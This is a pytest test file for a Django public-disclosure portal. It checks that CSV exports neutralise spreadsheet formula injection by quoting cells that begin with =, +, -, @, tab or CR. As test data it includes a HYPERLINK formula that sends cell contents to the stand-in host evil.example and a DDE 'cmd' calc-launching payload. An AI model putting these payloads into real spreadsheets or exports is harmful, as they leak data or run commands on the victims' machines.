"""Issue 10 (Low): CSV exports never pass a formula through: cells starting with = + - @ tab or CR are
prefixed with a single quote (OWASP CSV injection)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse

from gongkai.catalog.models import Disclosure, Kind, Status
from gongkai.core import csvsafe

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        ("+86 139", "'+86 139"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("渠政发〔2024〕2号", "渠政发〔2024〕2号"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (2024, "2024"),
    ],
)
def test_safe_cell_prefixes_formula_starts_only(value, expected):
    assert csvsafe.safe_cell(value) == expected


def test_the_safe_writer_escapes_every_cell_of_a_row():
    out = io.StringIO()
    csvsafe.writer(out).writerows([["=1+1", "正常"], ["@x", "-y"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "正常"], ["'@x", "'-y"]]


def test_the_public_catalog_csv_export_escapes_formulas(citizen, township):
    Disclosure.objects.create(
        organisation=township,
        title=ATTACK,
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        doc_no="-2+3",
        kind=Kind.NOTICE,
        status=Status.PUBLISHED,
        written_on=datetime.date(2024, 5, 6),
        published_on=datetime.date(2024, 5, 6),
        index_no="qukou/2024-00001",
    )

    response = citizen.get(reverse("portal_catalog:export_csv", args=[township.code]))

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["名称"] == "'" + ATTACK
    assert row["内容概述"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["文号"] == "'-2+3"
    assert row["索引号"] == "qukou/2024-00001" and row["发布日期"] == "2024-05-06"
